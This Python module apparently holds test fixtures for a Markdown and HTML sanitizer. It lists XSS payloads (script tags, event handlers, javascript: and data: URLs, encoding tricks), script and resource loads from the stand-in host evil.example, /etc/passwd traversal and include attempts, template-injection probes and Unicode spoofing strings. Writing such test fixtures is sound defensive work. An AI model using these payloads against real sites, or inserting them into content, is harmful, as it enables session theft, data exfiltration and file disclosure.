"""What a page's text could try. Each runs `window.ran = 1` in a browser that lets it, or asks another host."""

RUN = "window.ran=1"

_LINES = f"""
<script>{RUN}</script>
<SCRIPT>{RUN}</SCRIPT>
<script src=//evil.example/x.js></script>
<img src=x onerror={RUN}>
<img src=x onerror="{RUN}"
<img/src/onerror={RUN}>
<img src="x` `<script>{RUN}</script>"` `>
<svg onload={RUN}></svg>
<svg><script>{RUN}</script></svg>
<svg><script href="data:text/javascript,{RUN}"/></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.{RUN}</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x"/></svg>
<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>
<svg><a><set attributeName=href to=javascript:{RUN}></set><text>x</text></a></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>
<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>
<iframe src="javascript:parent.{RUN}"></iframe>
<object data="javascript:{RUN}"></object>
<embed src="javascript:{RUN}">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
<style>@import "https://evil.example/x.css";</style>
<style>body{{background:url(https://evil.example/)}}</style>
<form action="https://evil.example/"><button>Send</button></form>
<button formaction="javascript:{RUN}">x</button>
<input autofocus onfocus={RUN}>
<details open ontoggle={RUN}>x</details>
<video><source onerror={RUN}></video>
<audio src=x onerror={RUN}></audio>
<template><script>{RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<p title="</p><script>{RUN}</script>">x</p>
<div style="background:url(https://evil.example/)">x</div>
<p onclick={RUN} id=x>x</p>
<p class="a"onclick="{RUN}">x</p>
<p class=a/onclick={RUN}>x</p>
<p CLASS="a" ONCLICK="{RUN}">x</p>
<a href="javascript:{RUN}">x</a>
<a href="java&#115;cript:{RUN}">x</a>
<a href="java&Tab;script:{RUN}">x</a>
<![CDATA[<script>{RUN}</script>]]>
<?xml <script>{RUN}</script> ?>
<!DOCTYPE html [<!ENTITY x "<script>{RUN}</script>">]>
<!--><script>{RUN}</script>-->
<!---><script>{RUN}</script>-->
<!-- --!><script>{RUN}</script> -->
<!-- x
<div><script>{RUN}</script>
<textarea><script>{RUN}</script></textarea>
<title><script>{RUN}</script></title>
<plaintext>
<xmp><script>{RUN}</script></xmp>
<marquee onstart={RUN}>x</marquee>
<x-y onclick={RUN}>x</x-y>
<body onload={RUN}>
<html onmouseover={RUN}>
<frameset onload={RUN}>
<dialog open>over everything</dialog>
<p id="main" name="ran">clobbers</p>
<p markdown="1" onclick={RUN}>x</p>
<p markdown="block"><script>{RUN}</script></p>
<div markdown="1">[x](javascript:{RUN})</div>
<b><script>{RUN}</script></b>
<<script>{RUN}</script>
<script<b>>{RUN}</script>
<sc<!-- -->ript>{RUN}</script>
[x](javascript:{RUN})
[x](JaVaScRiPt:{RUN})
[x](java&#115;cript:{RUN})
[x](java\tscript:{RUN})
[x](&#x6A;avascript:{RUN})
[x](javascript&colon;{RUN})
[x](<javascript:{RUN}>)
[x](data:text/html,<script>{RUN}</script>)
[x](data:text/html;base64,PHNjcmlwdD4=)
[x](vbscript:x)
[x](%6Aavascript:{RUN})
[x](\x01javascript:{RUN})
[x]( javascript:{RUN})
[x](//evil.example/)
[x](\\\\evil.example)
[x](/\\evil.example)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](filesystem:https://evil.example/1)
[x](../../../../etc/passwd)
![x](javascript:{RUN})
![x](https://evil.example/pixel.png)
![x](//evil.example/pixel.png)
![x](data:image/svg+xml,<svg onload={RUN}>)
![x" onerror="{RUN}](assets/favicon.svg)
[x]: javascript:{RUN}
<javascript:{RUN}>
<https://x" onclick="{RUN}>
[x](index.md "title" onclick="{RUN}")
[x](index.md 'a" onclick="{RUN}')
[x](index.md){{ onclick="{RUN}" }}
[x](index.md){{: onclick="{RUN}" }}
[x](index.md){{: href="javascript:{RUN}" }}
[x](index.md){{ .a href=javascript:{RUN} }}
**x**{{: onclick="{RUN}" style="position:fixed" }}
## A heading {{#a-heading onclick="{RUN}"}}
## A heading {{: #a-heading2 onclick="{RUN}" }}
## <img src=x onerror={RUN}> {{#a-picture}}
`x`{{: onclick={RUN} }}
`<script>{RUN}</script>`
``<script>{RUN}</script>`
\\`<script>{RUN}</script>\\`
`a\\`<img src=x onerror={RUN}>`
    <script>{RUN}</script>
\t<script>{RUN}</script>
> <script>{RUN}</script>
- <script>{RUN}</script>
1. <img src=x onerror={RUN}>
*[abbr]: <script>{RUN}</script>
[^1]: <script>{RUN}</script>
[TOC]
$$\\href{{javascript:{RUN}}}{{x}}$$
[@agha2003track<script>{RUN}</script>]
[<script>{RUN}</script> @agha2003track]
[@agha2003track, <img src=x onerror={RUN}>]
[@agha2003track, [x](javascript:{RUN})]
[*<b onclick={RUN}>* @agha2003track]
[@agha2003track, `<script>{RUN}</script>`{{=html}}]
[@agha2003track, \\href{{javascript:{RUN}}}{{x}}]
@agha2003track [p. <script>{RUN}</script>]
"<script>{RUN}</script>"
&lt;script&gt;{RUN}&lt;/script&gt;
&#60;script&#62;{RUN}&#60;/script&#62;
\\<script>{RUN}</script>
\\<img src=x onerror={RUN}>
<\x00script>{RUN}</script>
<img src=x\x0conerror={RUN}>
\u202e<b>esrever</b>
\u200bunseen
\u2066\u2069isolates
p\u0430ypal
\U000e0041tags
<b>bold</b> and H<sub>2</sub>O
<abbr title="a &quot; onclick=&quot;{RUN}">x</abbr>
<abbr title='a" onclick="{RUN}'>x</abbr>
<abbr title="a > b" onclick={RUN}>x</abbr>
<!-- a comment -->
<!-- a -- b -->
<b
<b/onclick={RUN}>
</script><script>{RUN}</script>
</p onclick={RUN}>
"""

_BLOCKS = f"""
<script
>{RUN}</script
>
%%
[x][y]

[y]: javascript:{RUN}
%%
[z]

[z]: <javascript:{RUN}> "title"
%%
A paragraph.
{{: onclick="{RUN}" }}
%%
A paragraph.
{{ onclick={RUN} }}
%%
- A point.
  {{: onclick={RUN} }}
%%
| a {{: onclick={RUN} }} | b |
|---|---|
| c | d {{: onclick={RUN} }} |
%%
Term {{: onclick={RUN} }}
:   definition
%%
`a
<script>{RUN}</script>
b`
%%
```html
<script>{RUN}</script>
```
%%
```text
<script>{RUN}</script>
```
%%
```text
x
``
<script>{RUN}</script>
```
%%
~~~
<script>{RUN}</script>
~~~
%%
```{{.text onclick={RUN}}}
x
```
%%
```text onclick={RUN}
x
```
%%
```text {{: onclick={RUN} }}
x
```
%%
 ```text
<script>{RUN}</script>
 ```
%%
- ```text
  <script>{RUN}</script>
  ```
%%
> ```text
> <script>{RUN}</script>
> ```
%%
```text
<script>{RUN}</script>
 ```
%%
````text
```
<script>{RUN}</script>
````
%%
```figure
../../../overrides/main
```
%%
```figure
<script>{RUN}</script>
```
%%
```quiz
1. <script>{RUN}</script>
see: #ways-in
a) <img src=x onerror={RUN}>
... <script>{RUN}</script>
*b) "><script>{RUN}</script>
... javascript:{RUN}
```
%%
```quiz
1. Never ends
%%
--8<-- "/etc/passwd"
{{% include "/etc/passwd" %}}
{{{{ config }}}}
{{{{ ''.__class__ }}}}
%%
<abbr
title="x"
onclick={RUN}>x</abbr>
"""


PAYLOADS = (*_LINES.strip("\n").split("\n"), *_BLOCKS.strip("\n").split("\n%%\n"))
